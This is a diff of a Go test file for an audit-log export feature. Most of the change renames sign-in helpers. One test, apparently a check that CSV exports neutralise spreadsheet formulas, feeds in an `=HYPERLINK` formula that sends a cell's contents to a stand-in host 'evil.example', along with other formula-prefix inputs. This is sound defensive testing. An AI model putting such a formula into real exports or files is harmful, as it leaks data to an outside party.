@@ -24,7 +24,7 @@ func TestAnExportIsAnActItself(t *testing.T) {
 	t.Parallel()
 	dbtest.Each(t, func(t *testing.T, d *db.DB) {
 		s := newServer(t, d)
-		eve, admin := newMember(t, s, "eve@example.com"), newPerson(t, s, "admin@example.com", db.RoleAdmin)
+		eve, admin := signedInMember(t, s, "eve@example.com"), signedInAs(t, s, "admin@example.com", db.RoleAdmin)
 		var last int64
 		recorded(t, d, &last)
 		const page = "/admin/audit?action=signed_in&person=eve%40example.com"
@@ -39,7 +39,7 @@ func TestAnExportIsAnActItself(t *testing.T) {
 			t.Errorf("got %q", got)
 		}
 		newDevice(admin, firefox)
-		admin = newPerson(t, s, "another@example.com", db.RoleAdmin)
+		admin = signedInAs(t, s, "another@example.com", db.RoleAdmin)
 		silence(s)
 		if _, err := d.Pool().ExecContext(t.Context(), "ALTER TABLE audit_events RENAME COLUMN details TO taken_away"); err != nil {
 			t.Fatal(err)
@@ -74,9 +74,9 @@ func TestASpreadsheetTakesNothingOfAnExportForAFormula(t *testing.T) {
 	t.Parallel()
 	dbtest.Each(t, func(t *testing.T, d *db.DB) {
 		s := newServer(t, d)
-		admin := newPerson(t, s, "admin@example.com", db.RoleAdmin)
+		admin := signedInAs(t, s, "admin@example.com", db.RoleAdmin)
 		for _, address := range []string{"=1+1@example.com", "+1@example.com", "-1@example.com"} {
-			newDevice(newMember(t, s, address), `=HYPERLINK("https://evil.example/?"&A1,"Error, click here")`)
+			newDevice(signedInMember(t, s, address), `=HYPERLINK("https://evil.example/?"&A1,"Error, click here")`)
 		}
 		for _, details := range []string{"@SUM(1)", " =1", "\t=1", "＝1", "\n-1", "\"=1", ",=1", "plain"} {
 			if err := audit.Record(t.Context(), d.Queries, audit.Event{Action: audit.SignedIn, Details: details}); err != nil {
@@ -106,8 +106,8 @@ func TestAnExportHasWhatTheFilterShows(t *testing.T) {
 	t.Parallel()
 	dbtest.Each(t, func(t *testing.T, d *db.DB) {
 		s := newServer(t, d)
-		admin := newPerson(t, s, "admin@example.com", db.RoleAdmin)
-		ada := newMember(t, s, adaEmail).userID()
+		admin := signedInAs(t, s, "admin@example.com", db.RoleAdmin)
+		ada := signedInMember(t, s, adaEmail).userID()
 		addEvents(t, d, ada, 2*exportBatch+7)
 		lines := export(t, admin, "?person=ada%40example.com&until=2020-01-02")
 		if !slices.Equal(lines[0], exportHead) || len(lines) != 1+2*exportBatch+7 {
@@ -131,7 +131,7 @@ func TestAnExportHasWhatTheFilterShows(t *testing.T) {
 func TestAnExportIsBoundedAndSaysSo(t *testing.T) {
 	t.Parallel()
 	d := dbtest.SQLite(t)
-	admin := newPerson(t, newServer(t, d), "admin@example.com", db.RoleAdmin)
+	admin := signedInAs(t, newServer(t, d), "admin@example.com", db.RoleAdmin)
 	ctx, cancel := context.WithTimeout(t.Context(), time.Minute) // longer than a statement may take otherwise
 	defer cancel()
 	_, err := d.Pool().ExecContext(ctx, `INSERT INTO audit_events (happened_at, action, address, device, request_id, details)
@@ -152,7 +152,7 @@ func TestAnExportThatBreaksOffIsNoWholeOne(t *testing.T) {
 	d := dbtest.SQLite(t)
 	s := newServer(t, d, func(c *config.Config) { c.SessionStore = config.Cookie })
 	silence(s)
-	admin := newPerson(t, s, "admin@example.com", db.RoleAdmin)
+	admin := signedInAs(t, s, "admin@example.com", db.RoleAdmin)
 	addEvents(t, d, 1, 2*exportBatch)
 	defer func() {
 		if recover() != http.ErrAbortHandler {
